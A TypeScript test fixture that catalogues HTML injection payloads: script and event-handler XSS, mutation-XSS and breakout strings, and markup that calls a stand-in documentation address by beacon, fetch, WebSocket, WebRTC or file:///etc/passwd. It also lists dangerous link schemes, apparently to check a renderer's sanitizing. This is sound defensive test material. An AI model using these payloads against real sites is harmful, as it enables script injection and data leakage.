/** Where attacks call home: an address of a network for documentation. */
export const HOME = 'http://198.51.100.66';

/** A name that only an attack looks up. */
export const NAME = 'attack.example';

/** What an attack runs, if it gets to run. */
const mark = (name: string): string => `(self.attacked=self.attacked||[]).push('${name}')`;
const url = (name: string): string => `${HOME}/${name}`;
const encoded = (script: string): string => encodeURIComponent(script);

/** Markup that runs a script by itself, as soon as somebody takes it for markup. */
const running: Readonly<Record<string, string>> = {
  script: `<script>${mark('script')}</script>`,
  'script-elsewhere': `<script src="${url('script-elsewhere')}"></script>`,
  'script-data': `<script src="data:text/javascript,${encoded(mark('script-data'))}"></script>`,
  'script-module': `<script type="module">${mark('script-module')}</script>`,
  'script-import': `<script>import('data:text/javascript,${encoded(mark('script-import'))}')</script>`,
  'script-broken': `<scr<script></script>ipt>${mark('script-broken')}</script>`,
  'script-eval': `<script>eval("${mark('script-eval')}");new Function("${mark('script-function')}")()</script>`,
  'img-onerror': `<img src="data:," onerror="${mark('img-onerror')}">`,
  'img-slash': `<img/src="data:,"/onerror=${mark('img-slash')}>`,
  'svg-onload': `<svg onload="${mark('svg-onload')}"></svg>`,
  'svg-script': `<svg><script>${mark('svg-script')}</script></svg>`,
  'svg-animate': `<svg><animate onbegin="${mark('svg-animate')}" attributeName="x" dur="1s"></svg>`,
  'body-onload': `<body onload="${mark('body-onload')}">`,
  'details-ontoggle': `<details open ontoggle="${mark('details-ontoggle')}">x</details>`,
  'input-onfocus': `<input autofocus onfocus="${mark('input-onfocus')}">`,
  'video-onerror': `<video onerror="${mark('video-onerror')}"><source src="data:,"></video>`,
  'audio-onerror': `<audio src="data:," onerror="${mark('audio-onerror')}"></audio>`,
  'style-animation': `<style>@keyframes a{from{color:red}}</style><b style="animation:a 1s" onanimationstart="${mark('style-animation')}">x</b>`,
  'iframe-srcdoc': `<iframe srcdoc="<script>parent.${mark('iframe-srcdoc')}</script>"></iframe>`,
  'iframe-javascript': `<iframe src="javascript:parent.${mark('iframe-javascript')}"></iframe>`,
  'object-data': `<object data="data:text/html,<script>parent.${mark('object-data')}</script>"></object>`,
  'mathml-mutation': `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=data:, onerror=${mark('mathml-mutation')}&gt;">`,
  'noscript-mutation': `<noscript><p title="</noscript><img src=data:, onerror=${mark('noscript-mutation')}>"></noscript>`,
  'template-mutation': `<template><s><template><s><img src=data:, onerror=${mark('template-mutation')}></template></s></template>`,
  'title-breakout': `</title></textarea></style><img src=data:, onerror=${mark('title-breakout')}>`,
  'attribute-breakout': `"'><img src=data:, onerror=${mark('attribute-breakout')}>`,
  'cdata-breakout': `]]><script>${mark('cdata-breakout')}</script>`,
  'comment-breakout': `--><script>${mark('comment-breakout')}</script><!--`,
  'markdown-fence': '```\n</code></pre><script>' + mark('markdown-fence') + '</script>\n```',
  'template-braces': `{{constructor.constructor("${mark('template-braces')}")()}}\${${mark('template-literal')}}`,
};

/** Markup that asks something of the network by itself. */
const calling: Readonly<Record<string, string>> = {
  'img-src': `<img src="${url('img-src')}">`,
  'img-srcset': `<img srcset="${url('img-srcset')} 1x">`,
  'link-style': `<link rel="stylesheet" href="${url('link-style')}">`,
  'link-prefetch': `<link rel="prefetch" href="${url('link-prefetch')}">`,
  'link-preconnect': `<link rel="preconnect" href="${url('link-preconnect')}">`,
  'link-name': `<link rel="dns-prefetch" href="//${NAME}">`,
  'style-import': `<style>@import url("${url('style-import')}");</style>`,
  'style-background': `<p style="background:url(${url('style-background')})">x</p>`,
  'style-font': `<style>@font-face{font-family:f;src:url(${url('style-font')})}q{font-family:f}</style><q>x</q>`,
  'iframe-src': `<iframe src="${url('iframe-src')}"></iframe>`,
  'object-src': `<object data="${url('object-src')}"></object>`,
  'embed-src': `<embed src="${url('embed-src')}">`,
  'video-src': `<video autoplay src="${url('video-src')}" poster="${url('video-poster')}"></video>`,
  'audio-src': `<audio autoplay src="${url('audio-src')}"></audio>`,
  'svg-image': `<svg><image href="${url('svg-image')}"/></svg>`,
  'svg-use': `<svg><use href="${url('svg-use')}#a"/></svg>`,
  'input-image': `<input type="image" src="${url('input-image')}">`,
  'table-background': `<table background="${url('table-background')}"><tr><td>x</table>`,
  refresh: `<meta http-equiv="refresh" content="9;url=${url('refresh')}">`,
  'form-submit': `<form action="${url('form-submit')}"><input name="a"></form><script>document.forms[0].submit()</script>`,
  'base-href': `<base href="${HOME}/base/">`,
  ping: `<a href="#" ping="${url('ping')}">x</a>`,
  webrtc: `<script>{const c=new RTCPeerConnection({iceServers:[{urls:'stun:198.51.100.66:3478'}]});c.createDataChannel('x');c.createOffer().then(o=>c.setLocalDescription(o))}</script>`,
  beacon: `<script>navigator.sendBeacon('${url('beacon')}','x')</script>`,
  fetch: `<script>fetch('${url('fetch')}',{mode:'no-cors'}).catch(()=>{})</script>`,
  socket: `<script>new WebSocket('ws://198.51.100.66/socket')</script>`,
  file: `<img src="file:///etc/passwd"><iframe src="file:///etc/passwd"></iframe>`,
};

/** Every attack, by its name. */
export const attacks: Readonly<Record<string, string>> = { ...running, ...calling };

/** Addresses that a link must never lead to. */
export const badAddresses: readonly string[] = [
  `javascript:${mark('link')}`,
  `JaVaScRiPt:${mark('link')}`,
  `java\tscript:${mark('link')}`,
  `\u0001javascript:${mark('link')}`,
  `javascript&colon;${mark('link')}`,
  `vbscript:msgbox(1)`,
  `data:text/html,<script>${mark('link')}</script>`,
  'file:///etc/passwd',
  'blob:app://uporedo/x',
  'app://uporedo/index.html',
  'chrome://gpu',
  'devtools://devtools/bundled/inspector.html',
  'view-source:https://example.org/',
  'smb://198.51.100.66/share',
  'ms-msdt:/id PCWDiagnostic',
  'http://example.org/',
  'https://reader:secret@example.org/',
];

/** A web page with one of them. */
export const pageOf = (name: string): string =>
  `<!doctype html><html><head><title>Напад</title></head><body><p>Пре</p>${attacks[name] ?? ''}</body></html>`;
